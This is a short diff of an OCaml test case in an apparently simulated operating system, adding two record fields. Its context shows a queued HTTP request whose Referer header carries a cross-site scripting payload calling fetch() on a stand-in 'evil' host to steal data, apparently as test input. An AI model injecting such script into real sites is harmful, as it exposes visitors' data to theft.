@@ -97,4 +97,6 @@ let case =
         Shift_os.World.queue_request w
           "GET /stats.php HTTP/1.0\r\nReferer: http://e/<script>fetch('http://evil/steal')</script>\r\n");
     provenance = None;
+    images = [];
+    multiproc = None;
   }
